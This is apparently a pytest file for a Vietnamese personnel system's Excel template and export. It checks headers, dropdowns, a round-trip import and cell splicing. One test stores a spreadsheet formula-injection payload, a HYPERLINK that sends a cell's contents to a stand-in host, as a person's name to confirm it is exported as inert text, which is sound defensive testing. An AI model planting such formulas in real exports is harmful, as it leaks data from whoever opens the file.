"""The template and the export: headers, instructions, allowed values, dropdowns, round trip."""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from decimal import Decimal

from openpyxl import Workbook, load_workbook

from tests.conftest import Cast
from thuocdo.audit.models import AuditEntry
from thuocdo.imports.framework import apply
from thuocdo.imports.sheetrows import splice_rows
from thuocdo.imports.workbook import INSTRUCTIONS_SHEET, VALUES_SHEET, write_workbook
from thuocdo.org.models import Assignment, Person

from .conftest import HEADERS, KIND, plan_of, xlsx


def test_the_template_has_headers_instructions_allowed_values_and_dropdowns(cast: Cast) -> None:
    book = load_workbook(io.BytesIO(write_workbook(KIND, cast.agency_a)))
    assert book.sheetnames == ["Cán bộ", INSTRUCTIONS_SHEET, VALUES_SHEET]
    data = book["Cán bộ"]
    headers = [cell.value for cell in data[1]]
    assert headers == HEADERS
    assert headers[:2] == ["Mã cán bộ*", "Họ và tên*"]
    assert data.max_row == 1  # no example row that could be imported by mistake
    assert data.freeze_panes == "A2"
    assert data["A1"].font.bold
    assert data.column_dimensions["B"].width == 28

    values = book[VALUES_SHEET]
    columns = {cell.value: cell.column_letter for cell in values[1] if cell.value}
    listed = {
        header: [c.value for c in values[letter][1:] if c.value is not None]
        for header, letter in columns.items()
    }
    assert listed["Đối tượng"] == ["Cán bộ", "Công chức", "Viên chức", "Người lao động"]
    assert listed["Giới tính"] == ["Nữ", "Nam"]
    assert listed["Chức vụ"] == [
        "Cấp trưởng",
        "Cấp phó",
        "Quyền cấp trưởng",
        "Không giữ chức vụ lãnh đạo",
    ]
    assert listed["Mã đơn vị"] == ["BA", "X", "X1", "Y"]  # only this agency's units
    unit_letter = columns["Mã đơn vị"]
    notes = [c.value for c in values[chr(ord(unit_letter) + 1)][1:]]
    assert values[f"{chr(ord(unit_letter) + 1)}1"].value == "Diễn giải"
    assert notes[:2] == ["Ban Thử nghiệm A", "Vụ Xây dựng"]
    assert listed["Mã vị trí việc làm"] == ["X-CV"]

    validations = {str(v.sqref): v for v in data.data_validations.dataValidation}
    by_column = {ref.split(":")[0].rstrip("0123456789"): v for ref, v in validations.items()}
    # Gender C, category E, unit G, job H, role I: dropdowns on the allowed-values sheet.
    assert sorted(by_column) == ["C", "E", "G", "H", "I"]
    assert by_column["E"].type == "list"
    assert by_column["E"].formula1.startswith("'Giá trị hợp lệ'!$")
    assert "Giá trị hợp lệ" in (by_column["E"].error or "")

    instructions = [c.value for c in book[INSTRUCTIONS_SHEET]["A"] if c.value]
    assert any("dd/mm/yyyy" in line for line in instructions)
    assert "Lĩnh vực được phân công" in instructions


def test_the_export_lists_the_agency_people_in_the_template_layout(cast: Cast) -> None:
    book = load_workbook(
        io.BytesIO(write_workbook(KIND, cast.agency_a, KIND.export_rows(cast.agency_a)))
    )
    data = book["Cán bộ"]
    rows = list(data.iter_rows(min_row=2, values_only=True))
    assert len(rows) == 9  # agency A's people; none from agency B
    by_code = {row[0]: row for row in rows}
    deputy = by_code[cast.person("deputy_x").code]
    assert deputy[6:11] == ("X", "X-CV", "Cấp phó", None, "Lĩnh vực thử")
    assert data.cell(row=2, column=12).number_format == "DD/MM/YYYY"
    assert rows[0][8] == "Cấp trưởng"  # the agency's head first


def test_export_then_import_changes_nothing(cast: Cast) -> None:
    exported = io.BytesIO(write_workbook(KIND, cast.agency_a, KIND.export_rows(cast.agency_a)))
    before = (AuditEntry.objects.count(), Person.objects.count(), Assignment.objects.count())
    result = plan_of(exported, cast.agency_a)
    assert result.ok, result.errors
    assert result.counts["unchanged"] == 9
    assert not result.has_changes
    apply(result, actor=None)
    assert (
        AuditEntry.objects.count(),
        Person.objects.count(),
        Assignment.objects.count(),
    ) == before


def test_a_filled_template_imports(cast: Cast) -> None:
    book = load_workbook(io.BytesIO(write_workbook(KIND, cast.agency_a)))
    book["Cán bộ"].append(
        [
            "T1",
            "Vũ Thị Mẫu",
            "Nữ",
            None,
            "Viên chức",
            None,
            "Y",
            None,
            "Không giữ chức vụ lãnh đạo",
            None,
            None,
            "02/01/2025",
        ]
    )
    buffer = io.BytesIO()
    book.save(buffer)
    result = plan_of(buffer, cast.agency_a)
    assert result.counts["create"] == 1


def test_an_empty_agency_gets_a_template_without_empty_dropdowns(cast: Cast) -> None:
    content = write_workbook(KIND, cast.agency_b)
    data = load_workbook(io.BytesIO(content))["Cán bộ"]
    assert len(data.data_validations.dataValidation) == 5
    assert xlsx([])  # the helper itself builds a readable workbook


def test_text_that_looks_like_a_formula_is_exported_as_text(cast: Cast) -> None:
    trap = '=HYPERLINK("http://example.invalid/?leak="&B2,"Bấm để xem")'
    person = cast.person("staff_x")
    Person.objects.filter(pk=person.pk).update(full_name=trap)
    exported = write_workbook(KIND, cast.agency_a, KIND.export_rows(cast.agency_a))
    with zipfile.ZipFile(io.BytesIO(exported)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    data = load_workbook(io.BytesIO(exported))["Cán bộ"]
    cell = next(row[1] for row in data.iter_rows(min_row=2) if row[0].value == person.code)
    assert (cell.value, cell.data_type) == (trap, "s")


def test_every_exported_row_is_read_back_even_by_a_reader_that_trusts_dimensions(
    cast: Cast,
) -> None:
    exported = write_workbook(KIND, cast.agency_a, KIND.export_rows(cast.agency_a))
    streamed = load_workbook(io.BytesIO(exported), read_only=True)["Cán bộ"]
    codes = [row[0] for row in streamed.iter_rows(min_row=2, values_only=True)]
    assert len(codes) == 9 and all(codes)


def test_spliced_cells_keep_their_types_and_drop_what_xml_cannot_hold() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Chữ", "Số", "Thập phân", "Ngày", "Đúng/sai"])
    sheet.cell(row=2, column=1, value=dt.date(2000, 1, 1)).number_format = "DD/MM/YYYY"
    buffer = io.BytesIO()
    book.save(buffer)
    rows = [
        ["a\x01b <c> & d\tđ", 7, Decimal("2.50"), dt.date(2026, 2, 28), True],
        [None, "", None, None, None],
        ["  giữ khoảng trắng  ", 0, Decimal("-0.5"), dt.date(1900, 3, 1), False],
    ]
    spliced = load_workbook(io.BytesIO(splice_rows(buffer.getvalue(), rows, width=5))).active
    assert spliced is not None
    read = [list(row) for row in spliced.iter_rows(min_row=2, values_only=True)]
    assert read[0] == ["ab <c> & d\tđ", 7, 2.5, dt.datetime(2026, 2, 28), True]
    assert read[1] == [None] * 5
    assert read[2] == ["  giữ khoảng trắng  ", 0, -0.5, dt.datetime(1900, 3, 1), False]
    assert spliced.cell(row=2, column=4).number_format == "DD/MM/YYYY"
